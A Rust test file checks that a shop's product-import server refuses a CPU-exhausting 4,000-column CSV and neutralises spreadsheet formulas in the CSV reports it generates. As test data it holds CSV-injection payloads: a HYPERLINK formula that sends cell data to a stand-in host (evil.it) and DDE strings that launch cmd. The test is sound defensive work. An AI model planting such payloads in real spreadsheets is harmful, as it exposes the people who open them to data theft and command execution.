//! Hostile inputs: a CSV header built to burn CPU, spreadsheet formulas in the CSV files
//! the server writes, malformed e-mail addresses, an Origin of the wrong scheme and names
//! made of invisible characters.

use reqwest::StatusCode;
use serde_json::Value;

use crate::helpers::spawn_app;
use crate::import::{analyze, process};

/// A 16 KB CSV whose header is 4,000 columns named "a": numbering the repeated names
/// took 26 s of CPU in analyze before CSV columns were capped like XLSX ones.
fn four_thousand_columns() -> Vec<u8> {
    let header = vec!["a"; 4000].join(";");
    let row = vec!["1"; 4000].join(";");
    format!("{header}\n{row}\n").into_bytes()
}

#[tokio::test]
async fn a_csv_of_four_thousand_columns_is_refused_with_the_column_limit() {
    let app = spawn_app().await;
    let shop = app.shop("colonne@edilizia.it").await;

    let (status, reply) = analyze(&shop, four_thousand_columns(), "listino.csv").await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{reply}");
    assert_eq!(reply["success"], false);
    assert_eq!(reply["code"], "too_many_columns");
    assert_eq!(
        reply["error"],
        "Il file contiene troppe colonne: il massimo è 256"
    );

    let mapping: Value = serde_json::json!({"name": "a"});
    let (status, reply) = process(
        &shop,
        four_thousand_columns(),
        "listino.csv",
        &mapping,
        false,
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{reply}");
    assert_eq!(reply["code"], "too_many_columns");

    // The shop can go on: a normal file after it is read.
    let (status, reply) = analyze(
        &shop,
        b"Nome;Prezzo\nCemento;6,50\n".to_vec(),
        "listino.csv",
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{reply}");
}

/// A CSV download read back with the `csv` crate: its rows, the BOM removed.
fn csv_rows(body: &str) -> Vec<Vec<String>> {
    let body = body.strip_prefix('\u{feff}').unwrap_or(body);
    csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .from_reader(body.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

fn starts_a_formula(cell: &str) -> bool {
    vetrina::import::spreadsheet_text(cell) != cell
}

#[tokio::test]
async fn the_import_error_report_and_the_template_never_start_a_formula() {
    let app = spawn_app().await;
    let shop = app.shop("formule@edilizia.it").await;
    // Every row fails on its price, so every name lands in the report.
    let names = [
        "-20% sconto",
        "=HYPERLINK(\"http://evil.it/?\"&A1;\"Clicca\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ];
    let mut csv = String::from("Nome;Prezzo\n");
    for name in names {
        csv.push_str(&format!("\"{}\";gratis\n", name.replace('"', "\"\"")));
    }
    let (status, analysis) = analyze(&shop, csv.clone().into_bytes(), "listino.csv").await;
    assert_eq!(status, StatusCode::OK, "{analysis}");
    let (status, processed) = process(
        &shop,
        csv.into_bytes(),
        "listino.csv",
        &analysis["mapping"],
        false,
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{processed}");
    assert_eq!(processed["statistics"]["invalid"], names.len());

    let id = processed["processId"].as_str().unwrap();
    let reply = shop.get(&format!("/api/file/error-report/{id}")).await;
    assert_eq!(reply.status(), StatusCode::OK);
    let rows = csv_rows(&reply.text().await.unwrap());
    assert_eq!(rows[0], ["Riga", "Prodotto", "Errori"]);
    let products: Vec<&str> = rows[1..].iter().map(|r| r[1].as_str()).collect();
    let expected: Vec<String> = names.iter().map(|n| format!("'{n}")).collect();
    assert_eq!(products, expected);
    for cell in rows.iter().flatten() {
        assert!(!starts_a_formula(cell), "report cell {cell:?}");
    }

    let reply = app.get("/api/file/template").await;
    assert_eq!(reply.status(), StatusCode::OK);
    let rows = csv_rows(&reply.text().await.unwrap());
    assert!(rows.len() >= 3 && rows[0][0] == "name");
    for cell in rows.iter().flatten() {
        assert!(!starts_a_formula(cell), "template cell {cell:?}");
    }
}
